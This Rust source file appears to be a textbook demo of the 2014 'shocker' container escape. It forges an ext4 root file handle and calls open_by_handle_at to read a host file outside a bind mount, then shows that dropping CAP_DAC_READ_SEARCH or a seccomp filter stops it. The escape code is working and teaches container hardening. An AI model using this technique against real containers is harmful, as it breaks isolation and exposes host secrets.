//! Chapter 8, `shocker`: reading a host file outside a bind mount through a file handle (2014).
//!
//! On an ext4 file system the demo makes `volume/shared.txt` (what the container is given, like
//! `-v DIR:/volume`) and, beside it, `secret.txt` (a host file the container must not see). A
//! container (new mount and PID namespaces, an empty tmpfs as its root, `volume/` bind-mounted at
//! `/volume`, chroot) then
//!
//! 1. checks that the secret is not reachable by any path;
//! 2. asks for the handle of `/volume`, which shows the file system's handle format (ext4: inode
//!    and generation);
//! 3. forges the handle of inode 2, the root directory of every ext4 file system, and opens it
//!    with `open_by_handle_at`, giving `/volume` as the "which file system" argument;
//! 4. opens the secret relative to that directory, and reads it.
//!
//! Then the same container without CAP_DAC_READ_SEARCH, and one with a seccomp filter refusing
//! `open_by_handle_at`: EPERM at step 3. The demo only reads a file it wrote itself.
//!
//! Usage, as root: `shocker`. It needs `/var/tmp` (or `$TMPDIR`) on ext2/3/4. Exits 0 when the
//! naive container read the secret and both confined ones were refused, 1 otherwise.

use std::fs;
use std::io::Read;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::{Path, PathBuf};

use ch08_security::caps::{drop_capability, own_mask, own_status};
use ch08_security::child::run_in_child;
use ch08_security::handles::{path_in_filesystem, FileHandle, EXT4_ROOT_INO};
use ch08_security::seccomp::{self, Syscall};
use ch08_security::{errno_text, exit_with, outcome, Error};
use nix::fcntl::{openat, OFlag};
use nix::mount::{mount, MsFlags};
use nix::sched::CloneFlags;
use nix::sys::stat::Mode;
use nix::sys::statfs::{statfs, EXT4_SUPER_MAGIC};
use nix::unistd::{chdir, chroot};

/// `CAP_DAC_READ_SEARCH`, which `open_by_handle_at` requires.
const CAP_DAC_READ_SEARCH: u32 = 2;

const OPEN_BY_HANDLE_AT: [Syscall; 1] = [Syscall {
    name: "open_by_handle_at",
    nr: libc::SYS_open_by_handle_at as u32,
}];

const SECRET: &str = "root:$y$j9T$pretend-shadow-entry:19000:0:99999:7:::\n";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Confinement {
    Naive,
    NoDacReadSearch,
    SeccompNoHandles,
}

fn main() {
    exit_with("shocker", run());
}

fn run() -> Result<i32, Error> {
    let base = ext4_directory()?;
    let dir = tempfile::Builder::new()
        .prefix("ch08-shocker-")
        .tempdir_in(&base)
        .map_err(Error::io("create a directory in", &base))?;
    let volume = dir.path().join("volume");
    let rootfs = dir.path().join("rootfs");
    let secret = dir.path().join("secret.txt");
    for d in [&volume, &rootfs] {
        fs::create_dir(d).map_err(Error::io("create", d))?;
    }
    fs::write(volume.join("shared.txt"), "the container may read this\n")
        .map_err(Error::io("write", &volume))?;
    fs::write(&secret, SECRET).map_err(Error::io("write", &secret))?;
    let mountinfo = fs::read_to_string("/proc/self/mountinfo")
        .map_err(Error::io("read", "/proc/self/mountinfo"))?;
    let in_fs = path_in_filesystem(&mountinfo, &secret).ok_or_else(|| Error::Parse {
        what: format!("the mount holding {}", secret.display()),
        content: "no mount point is a prefix".into(),
    })?;
    println!(
        "host: {} shared as /volume; {} beside it (in its file system: /{})",
        volume.display(),
        secret.display(),
        in_fs.display()
    );

    let mut read_secret = Vec::new();
    for confinement in [
        Confinement::Naive,
        Confinement::NoDacReadSearch,
        Confinement::SeccompNoHandles,
    ] {
        println!("--- {}", title(confinement));
        let flags = CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWPID;
        let code = run_in_child(flags, || container(&rootfs, &volume, &in_fs, confinement))?;
        if code == 0 {
            println!("host: the container read a file no mount showed it: ESCAPED");
        } else {
            println!("host: the secret stayed unread: CONTAINED");
        }
        read_secret.push(code == 0);
    }
    Ok(if read_secret == [true, false, false] {
        0
    } else {
        1
    })
}

fn title(confinement: Confinement) -> &'static str {
    match confinement {
        Confinement::Naive => "a container with every capability and no seccomp",
        Confinement::NoDacReadSearch => "the same container without CAP_DAC_READ_SEARCH",
        Confinement::SeccompNoHandles => {
            "the same container with a seccomp filter refusing open_by_handle_at"
        }
    }
}

/// A directory on ext2/3/4, where the root directory is always inode 2.
fn ext4_directory() -> Result<PathBuf, Error> {
    let candidates = [PathBuf::from("/var/tmp"), std::env::temp_dir()];
    candidates
        .into_iter()
        .find(|dir| statfs(dir).is_ok_and(|fs| fs.filesystem_type() == EXT4_SUPER_MAGIC))
        .ok_or_else(|| {
            Error::Usage(
                "neither /var/tmp nor the temporary directory is on ext2/3/4, whose file \
                 handles this demo forges"
                    .into(),
            )
        })
}

/// PID 1 of the container; exits 0 when it read the secret.
fn container(rootfs: &Path, volume: &Path, in_fs: &Path, confinement: Confinement) -> isize {
    let result = enter_root(rootfs, volume).and_then(|()| {
        confine(confinement)?;
        attack(in_fs)
    });
    match result {
        Ok(true) => 0,
        Ok(false) => 1,
        Err(err) => {
            eprintln!("container: {err}");
            2
        }
    }
}

/// An empty tmpfs as the root, the volume bind-mounted into it, a /proc, chroot.
fn enter_root(rootfs: &Path, volume: &Path) -> Result<(), Error> {
    let private = MsFlags::MS_REC | MsFlags::MS_PRIVATE;
    mount(None::<&str>, "/", None::<&str>, private, None::<&str>)
        .map_err(Error::sys("make / private"))?;
    mount(
        Some("tmpfs"),
        rootfs,
        Some("tmpfs"),
        MsFlags::empty(),
        None::<&str>,
    )
    .map_err(Error::sys("mount the tmpfs root"))?;
    let target = rootfs.join("volume");
    fs::create_dir(&target).map_err(Error::io("create", &target))?;
    mount(
        Some(volume),
        &target,
        None::<&str>,
        MsFlags::MS_BIND,
        None::<&str>,
    )
    .map_err(Error::sys("bind the volume"))?;
    let proc_dir = rootfs.join("proc");
    fs::create_dir(&proc_dir).map_err(Error::io("create", &proc_dir))?;
    mount(
        Some("proc"),
        &proc_dir,
        Some("proc"),
        MsFlags::empty(),
        None::<&str>,
    )
    .map_err(Error::sys("mount /proc"))?;
    chroot(rootfs).map_err(Error::sys("chroot"))?;
    chdir("/").map_err(Error::sys("chdir /"))
}

fn confine(confinement: Confinement) -> Result<(), Error> {
    match confinement {
        Confinement::Naive => {}
        Confinement::NoDacReadSearch => drop_capability(CAP_DAC_READ_SEARCH)?,
        Confinement::SeccompNoHandles => seccomp::install(&seccomp::refuse(&OPEN_BY_HANDLE_AT))?,
    }
    println!(
        "container: CapEff {:016x}, Seccomp {}",
        own_mask("CapEff")?,
        own_status("Seccomp")?
    );
    Ok(())
}

/// The attack; whether it read the secret.
fn attack(in_fs: &Path) -> Result<bool, Error> {
    // 1. No path leads there.
    let by_path = Path::new("/").join(in_fs);
    println!(
        "container: ls /volume: {:?}; open {}: {}",
        list(Path::new("/volume")),
        by_path.display(),
        fs::read(&by_path).map_or_else(|e| e.to_string(), |_| "ok".into())
    );

    // ANCHOR: shocker_attack
    // 2. What do this file system's handles look like?
    let volume_handle =
        FileHandle::of(Path::new("/volume")).map_err(Error::sys("name_to_handle_at /volume"))?;
    let Some((ino, generation)) = volume_handle.ino32_gen() else {
        return Err(Error::Usage(format!(
            "handle type {} is not ext4's (inode, generation)",
            volume_handle.handle_type
        )));
    };
    println!("container: handle of /volume: type 1, inode {ino}, generation {generation:#x}");

    // 3. Forge the handle of inode 2, the file system's root directory, and open it. /volume
    //    only says which file system is meant.
    let volume_fd = fs::File::open("/volume").map_err(Error::io("open", "/volume"))?;
    let root_handle = FileHandle::ext4(EXT4_ROOT_INO, 0);
    let opened = root_handle.open(volume_fd.as_raw_fd(), libc::O_RDONLY | libc::O_DIRECTORY);
    println!(
        "container: open_by_handle_at(/volume, inode {EXT4_ROOT_INO}): {}",
        outcome(&opened)
    );
    let Ok(raw_fd) = opened else {
        println!("container: the attack stops here");
        return Ok(false);
    };
    // SAFETY: open_by_handle_at just returned this descriptor, and nothing else owns it.
    let host_root = unsafe { OwnedFd::from_raw_fd(raw_fd) };

    // 4. From the file system's root, any path: the bind mount's edge is not in the way.
    let secret = openat(
        Some(host_root.as_raw_fd()),
        in_fs,
        OFlag::O_RDONLY,
        Mode::empty(),
    );
    // ANCHOR_END: shocker_attack
    let secret = match secret {
        Ok(fd) => fd,
        Err(errno) => {
            println!(
                "container: openat(root, {}): {}",
                in_fs.display(),
                errno_text(errno)
            );
            return Ok(false);
        }
    };
    // SAFETY: openat just returned this descriptor, and nothing else owns it.
    let mut file = unsafe { fs::File::from_raw_fd(secret) };
    let mut text = String::new();
    file.read_to_string(&mut text)
        .map_err(Error::io("read", in_fs))?;
    println!(
        "container: read /{} of the host: {}",
        in_fs.display(),
        text.trim()
    );
    Ok(text == SECRET)
}

fn list(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .map(|entries| {
            entries
                .flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}
